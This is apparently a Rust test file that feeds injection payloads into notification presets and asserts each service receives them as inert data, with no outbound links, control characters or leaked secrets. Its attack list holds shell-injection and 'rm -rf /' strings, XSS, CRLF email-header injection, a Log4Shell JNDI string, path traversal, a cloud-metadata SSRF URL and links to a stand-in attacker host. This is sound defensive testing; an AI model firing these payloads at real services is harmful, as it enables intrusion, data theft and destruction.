//! Matches that try to be more than words: each preset sends them harmless, and within its service's limits.

use std::net::TcpListener;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use act::actions::Verdict;
use act::told::Phase;
use serde_json::{Value, json};

use crate::every::rows::rows;
use crate::fakes::{Fake, Request};
use crate::hub::{Hub, fresh};
use crate::presets::{Opened, call};

/// Matches that are longer, in bytes, are sent once.
const LONG: usize = 50_000;

/// What agents might say; `PORT` is one where somebody listens.
pub fn attacks(port: u16) -> Vec<String> {
    let own = format!("http://127.0.0.1:{port}/x http://[::1]:{port}/ http://169.254.169.254/latest/meta-data/");
    vec![
        "$(touch /tmp/owned) `id` ; rm -rf / | & > x \\ ' \"".into(),
        "<!channel> <!here> <@U024BE7LH> <#C1|x> <https://evil.example.com|bank> @channel &lt;!everyone&gt;".into(),
        "[words](https://evil.example.com) ![x](https://evil.example.com/i.png) **b** _i_ `c` # h\n- l".into(),
        "<script>alert(1)</script><img src=x onerror=alert(1)><users/all> <at>all</at> {{DATE(2026-01-01T00:00:00Z)}}"
            .into(),
        "a\r\nBcc: eve@example.com\r\n\r\nX-Evil: 1\u{2028}\u{2029}\u{85}".into(),
        "\u{202e}gpj.exe\u{202c} \u{2066}x\u{2069} \u{200f}\u{061c}".into(),
        "\u{0}\u{1b}[31m\u{7}\u{9b}31m".into(),
        "{token} {user} \\(.secret.token) \\(env.HOME) %s%n ${jndi:ldap://evil.example.com}".into(),
        "\"}],\"text\":\"x\",\"routing_key\":\"y\" &user=evil&token=evil".into(),
        "../../../etc/passwd?x=y#z".into(),
        "x".repeat(1 << 20),
        "é🙂".repeat(10_000),
        "\n".repeat(30_000),
        own,
    ]
}

/// A match that says this wherever it can.
pub fn matches(attack: &str) -> Vec<String> {
    let line: Value = serde_json::from_str(&fresh("e-1", &["a"])).unwrap();
    let mut words = line.clone();
    words["probes"][0]["context"] = json!({"title": attack, "body": attack});
    let mut bare = line;
    let short: String = attack.chars().take(2_000).collect();
    bare["probes"][0].as_object_mut().unwrap().remove("context");
    bare["machine"] = json!({"serial_number": short, "hostname": short, "user": short, "unit": short});
    bare["payload"] = json!({"x": attack, short: 1});
    vec![words.to_string(), bare.to_string()]
}

/// All texts that are sent.
fn texts(request: &Request) -> Vec<String> {
    fn of(value: &Value, all: &mut Vec<String>) {
        match value {
            Value::String(text) => all.push(text.clone()),
            Value::Array(values) => values.iter().for_each(|value| of(value, all)),
            Value::Object(values) => values.values().for_each(|value| of(value, all)),
            _ => {}
        }
    }
    let mut all = Vec::new();
    let form = || serde_json::to_value(request.form()).unwrap();
    let body = if request.json().is_object() { request.json() } else { form() };
    of(&body, &mut all);
    all
}

#[test]
fn a_match_is_data_in_every_preset() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let visits = Arc::new(AtomicUsize::new(0));
    let counted = visits.clone();
    std::thread::spawn(move || {
        listener.incoming().for_each(|_| {
            counted.fetch_add(1, Ordering::Relaxed);
        })
    });
    for row in rows() {
        let fake = Fake::start((row.service)(), vec![]);
        let hub = Hub::new(&row.action(&fake.url, ""));
        let action = Opened::new(&hub, "a", false);
        let target = action.targets[0].clone();
        let send = |line: &str, state, reference| {
            let mut call = call(line, state, reference);
            call.target = target.clone();
            let answer = action.send(&call);
            let begin: String = line.chars().take(900).collect();
            assert_eq!(answer.verdict, Verdict::Done, "{}: {}\n{begin}", row.name, answer.error);
            if line.len() < LONG {
                let shown = action.show(&call).unwrap().to_string();
                assert!(row.secrets.iter().all(|secret| !shown.contains(secret)), "{}: {shown}", row.name);
            }
            (fake.got().pop().unwrap(), answer.reference)
        };
        let (usual, _) = send(&fresh("e-1", &["a"]), None, None);
        for attack in attacks(port) {
            for line in matches(&attack) {
                let mut requests = vec![send(&line, None, None).0];
                if line.len() < LONG {
                    let (opened, reference) = send(&line, Some(Phase::Opened), None);
                    requests.extend([opened, send(&line, Some(Phase::Closed), reference).0]);
                }
                for request in &requests {
                    let odd =
                        (row.active)(request).into_iter().find(|link| !link.starts_with("https://hub.example.com/"));
                    assert_eq!(odd, None, "{}: {:?}", row.name, String::from_utf8_lossy(&request.body));
                    let steers = |c: char| event::steers(c) && !matches!(c, '\n' | '\t');
                    let text = texts(request).into_iter().find(|text| text.contains(steers));
                    assert_eq!(text, None, "{}", row.name);
                    assert_eq!((&request.raw_path, &request.method), (&usual.raw_path, &usual.method), "{}", row.name);
                    let names = |r: &Request| r.headers.keys().cloned().collect::<Vec<_>>();
                    assert_eq!(names(request), names(&usual), "{}", row.name);
                }
            }
        }
        assert!(fake.answered().iter().all(|(_, reply)| reply.status < 300), "{}", row.name);
    }
    assert_eq!(visits.load(Ordering::Relaxed), 0, "nothing in a match is ever fetched");
}
